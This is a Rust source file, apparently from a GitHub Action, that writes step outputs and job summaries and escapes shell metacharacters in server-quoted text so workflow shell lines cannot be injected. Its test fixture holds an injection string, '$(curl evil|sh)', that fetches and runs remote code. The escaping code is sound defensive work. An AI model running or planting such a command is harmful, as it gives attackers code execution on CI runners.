//! `$GITHUB_OUTPUT` step outputs and the `$GITHUB_STEP_SUMMARY` job summary: both are files
//! GitHub hands the step, appended to.

use std::io::Write;
use std::path::Path;

use anyhow::Context;

fn append(path: &Path, text: &str) -> anyhow::Result<()> {
    let mut f = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .with_context(|| format!("could not open {}", path.display()))?;
    f.write_all(text.as_bytes())
        .with_context(|| format!("could not write {}", path.display()))
}

/// Formats step outputs: `name=value`, or the delimiter form for values with line breaks
/// (with a delimiter that does not occur in the value).
pub(crate) fn format_outputs(outputs: &[(&str, String)]) -> String {
    let mut out = String::new();
    for (name, value) in outputs {
        if value.contains('\n') || value.contains('\r') {
            let mut delim = String::from("TOOLGATE_EOF");
            while value.contains(&delim) {
                delim.push('_');
            }
            out.push_str(&format!("{name}<<{delim}\n{value}\n{delim}\n"));
        } else {
            out.push_str(&format!("{name}={value}\n"));
        }
    }
    out
}

pub(crate) fn write_outputs(path: &Path, outputs: &[(&str, String)]) -> anyhow::Result<()> {
    append(path, &format_outputs(outputs))
}

/// Most characters of a step output that may quote a server ([`inert`]).
const INERT_MAX: usize = 500;

/// A step output that may quote a server or a provider (`error`), made inert where a workflow
/// interpolates it (`run: echo "${{ steps.toolgate.outputs.error }}"` is a shell line): one
/// line, no control characters, and each shell metacharacter shown as its full-width form
/// (`$` as `＄`, a backtick as `｀`, quotes as `＂` `＇`, …), so it reads the same and runs
/// nothing; bounded in length.
pub(crate) fn inert(s: &str) -> String {
    let line = s.lines().next().unwrap_or_default();
    let mut out = String::new();
    for c in line.chars().take(INERT_MAX) {
        let shown = match c {
            '$' => '＄',
            '`' => '｀',
            '"' => '＂',
            '\'' => '＇',
            '\\' => '＼',
            ';' => '；',
            '|' => '｜',
            '&' => '＆',
            '<' => '＜',
            '>' => '＞',
            '{' => '｛',
            '}' => '｝',
            '%' => '％',
            '!' => '！',
            c if c.is_control() => ' ',
            c => c,
        };
        out.push(shown);
    }
    out
}

pub(crate) fn write_summary(path: &Path, markdown: &str) -> anyhow::Result<()> {
    let mut text = markdown.to_string();
    if !text.ends_with('\n') {
        text.push('\n');
    }
    append(path, &text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_server_text_is_inert_in_a_shell_line() {
        let s = inert(
            "could not start `x`: $(curl evil|sh); echo \"$HOME\" 'a' \\ %0A {a}\u{1b}[31m!\nsecond",
        );
        for c in [
            '$', '`', '"', '\'', '\\', ';', '|', '&', '<', '>', '%', '{', '!', '\n', '\u{1b}',
        ] {
            assert!(!s.contains(c), "{c:?} in {s}");
        }
        assert!(
            s.starts_with("could not start ｀x｀: ＄(curl evil｜sh)"),
            "{s}"
        );
        assert!(!s.contains("second"));
        assert_eq!(inert(&"a".repeat(2000)).chars().count(), INERT_MAX);
    }

    #[test]
    fn multi_line_values_use_a_delimiter_not_in_the_value() {
        let s = format_outputs(&[
            ("score", "0.5".into()),
            ("text", "a\nTOOLGATE_EOF\nb".into()),
        ]);
        assert_eq!(
            s,
            "score=0.5\ntext<<TOOLGATE_EOF_\na\nTOOLGATE_EOF\nb\nTOOLGATE_EOF_\n"
        );
    }
}
